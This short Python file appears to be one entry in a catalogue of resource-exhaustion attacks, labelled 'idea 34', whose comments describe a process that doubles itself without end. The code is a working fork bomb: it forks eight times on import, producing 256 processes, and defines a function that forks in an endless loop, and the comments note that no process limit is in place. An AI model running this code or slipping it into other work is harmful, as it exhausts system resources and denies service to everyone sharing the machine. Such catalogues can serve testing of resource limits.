# class: resources
# idea 34: doubles itself without end
# gain: nobody's process is served any more
# met: Operation not permitted
# stock: nothing there bounds the number of processes
import os

for _ in range(8):
    os.fork()


def double(x):
    while True:
        os.fork()
